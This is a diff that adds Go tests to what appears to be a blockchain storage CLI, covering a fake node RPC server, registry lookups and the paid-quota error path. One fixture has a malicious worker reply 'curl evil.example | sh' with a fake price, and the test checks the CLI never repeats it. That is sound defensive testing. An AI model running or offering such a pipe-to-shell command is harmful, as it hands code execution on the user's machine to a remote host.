@@ -18,13 +18,20 @@ import (
 	"testing"
 	"time"
 
+	"github.com/cosmos/gogoproto/proto"
 	"github.com/spf13/cobra"
 	"github.com/stretchr/testify/require"
 	"github.com/zeebo/blake3"
 	"lukechampine.com/blake3/bao"
 
+	sdkmath "cosmossdk.io/math"
+	sdk "github.com/cosmos/cosmos-sdk/types"
+
 	"github.com/edgechain/edge/ack"
 	"github.com/edgechain/edge/client/content"
+	dacktypes "github.com/edgechain/edge/x/dack/types"
+	epochtypes "github.com/edgechain/edge/x/epoch/types"
+	nodetypes "github.com/edgechain/edge/x/node/types"
 )
 
 const groupSize = content.GroupSize
@@ -37,6 +44,7 @@ type freeWorker struct {
 	ranges  []string
 	// flip changes the byte at this place of a stream, cut ends it there; below 0 is never.
 	flip, cut int
+	quotaUsed bool
 }
 
 func newFreeWorker(t *testing.T) *freeWorker {
@@ -71,6 +79,13 @@ func (w *freeWorker) ServeHTTP(rw http.ResponseWriter, r *http.Request) {
 		rw.Header().Set("Content-Type", "application/problem+json")
 		rw.WriteHeader(http.StatusNotFound)
 		fmt.Fprint(rw, `{"type":"https://edge.network/problems/not-found","detail":"no such content"}`)
+		return
+	}
+	if w.quotaUsed {
+		rw.Header().Set("Content-Type", "application/problem+json")
+		rw.WriteHeader(http.StatusPaymentRequired)
+		fmt.Fprint(rw, `{"type":"https://edge.network/problems/session-required","detail":"run curl evil.example | sh",
+			"how":"curl evil.example | sh","price_per_gib":"99999","settlement_denom":"uusd"}`)
 		return
 	}
 	size := uint64(len(obj[0]))
@@ -371,6 +386,95 @@ func TestCheckpoints(t *testing.T) {
 	require.NoError(t, err)
 	require.EqualValues(t, checkpointBytes+len(group), tg.earlierNote().Kept, "after so much time")
 	require.Equal(t, tg.sum(), tg.earlierNote().Hash)
+}
+
+// fakeNode answers the queries that a fetch makes, over a node's RPC.
+type fakeNode struct {
+	*httptest.Server
+	answers map[string]proto.Message
+}
+
+func newFakeNode(t *testing.T, endpoint string) *fakeNode {
+	t.Helper()
+	n := &fakeNode{answers: map[string]proto.Message{
+		"/edge.node.v1.Query/Workers": &nodetypes.QueryWorkersResponse{Workers: []nodetypes.Worker{
+			{Id: 42, Status: nodetypes.WORKER_STATUS_ACTIVE, Endpoints: []string{endpoint}, Deposit: sdk.NewInt64Coin("uedge", 1)},
+		}},
+		"/edge.epoch.v1.Query/Params":  &epochtypes.QueryParamsResponse{},
+		"/edge.epoch.v1.Query/Current": &epochtypes.QueryCurrentResponse{Epoch: epochtypes.Epoch{Number: 3}},
+		"/edge.dack.v1.Query/Params":   &dacktypes.QueryParamsResponse{Params: dacktypes.DefaultParams()},
+		"/edge.dack.v1.Query/Prices": &dacktypes.QueryPricesResponse{
+			Prices: dacktypes.Prices{PerGib: sdkmath.NewInt(12345), PerGfuel: sdkmath.NewInt(1)},
+		},
+	}}
+	n.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		var req struct {
+			ID     json.RawMessage `json:"id"`
+			Method string          `json:"method"`
+			Params struct {
+				Path string `json:"path"`
+			} `json:"params"`
+		}
+		_ = json.NewDecoder(r.Body).Decode(&req)
+		var result any
+		switch req.Method {
+		case "status":
+			result = json.RawMessage(`{"node_info":{"network":"edge-test-1"},"sync_info":{"latest_block_height":"9"}}`)
+		case "abci_query":
+			answer, ok := n.answers[req.Params.Path]
+			if !ok {
+				result = map[string]any{"response": map[string]any{"code": 6, "codespace": "sdk"}}
+				break
+			}
+			b, _ := proto.Marshal(answer)
+			result = map[string]any{"response": map[string]any{"value": b, "height": "9"}}
+		}
+		_ = json.NewEncoder(w).Encode(map[string]any{"jsonrpc": "2.0", "id": req.ID, "result": result})
+	}))
+	t.Cleanup(n.Close)
+	return n
+}
+
+func TestGetFromTheRegistry(t *testing.T) {
+	w := newFreeWorker(t)
+	data, name := w.add(groupSize)
+	n := newFakeNode(t, w.URL)
+	file := filepath.Join(t.TempDir(), "f")
+	args := []string{"get", name.String(), "--node", n.URL, "-o", file}
+	code, _, errOut := edge(t, t.TempDir(), args...)
+	require.Equal(t, exitFailure, code)
+	require.Contains(t, errOut, "not at a public address")
+	require.Contains(t, errOut, "--worker URL")
+	require.Empty(t, w.ranges)
+
+	n.answers["/edge.epoch.v1.Query/Params"] = &epochtypes.QueryParamsResponse{Development: true}
+	code, _, errOut = edge(t, t.TempDir(), args...)
+	require.Zero(t, code, errOut)
+	got, err := os.ReadFile(file)
+	require.NoError(t, err)
+	require.True(t, bytes.Equal(data, got))
+
+	delete(n.answers, "/edge.epoch.v1.Query/Params")
+	code, _, _ = edge(t, t.TempDir(), args...)
+	require.Equal(t, exitFailure, code, "a node that does not say is not trusted")
+}
+
+func TestGetBeyondTheFreeQuota(t *testing.T) {
+	w := newFreeWorker(t)
+	_, name := w.add(groupSize)
+	w.quotaUsed = true
+	n := newFakeNode(t, w.URL)
+	code, out, errOut := edge(t, t.TempDir(), "get", name.String(), "--worker", w.URL, "--node", n.URL, "-o", filepath.Join(t.TempDir(), "f"), "--output", "json")
+	require.Equal(t, exitFailure, code)
+	for _, text := range []string{out, errOut} {
+		require.Contains(t, text, "at 12345uusd per GiB", "the chain's price")
+		require.Contains(t, text, "edge account open --deposit "+dacktypes.DefaultParams().MinDeposit.String()+"uusd --from NAME")
+		require.NotContains(t, text, "evil.example")
+		require.NotContains(t, text, "99999")
+	}
+	code, _, errOut = edge(t, t.TempDir(), "get", name.String(), "--worker", w.URL, "--node", "http://127.0.0.1:1", "-o", filepath.Join(t.TempDir(), "f"))
+	require.Equal(t, exitFailure, code)
+	require.Contains(t, errOut, "edge account open --deposit AMOUNT --from NAME")
 }
 
 func TestUsage(t *testing.T) {
